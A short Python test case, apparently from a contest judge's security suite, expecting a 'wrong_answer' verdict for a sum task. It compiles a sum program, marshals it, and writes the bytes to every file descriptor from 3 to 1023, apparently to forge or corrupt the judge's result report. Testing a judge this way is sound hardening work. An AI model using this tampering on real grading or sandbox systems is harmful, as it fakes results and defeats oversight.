# attacks: the report of the parser, by its form on every descriptor
# sum: wrong_answer
import marshal, os
code = marshal.dumps(compile("print(sum(map(int, input().split())))", "main.py", "exec"))
for fd in range(3, 1024):
    try: os.write(fd, b"C" + code)
    except OSError: pass
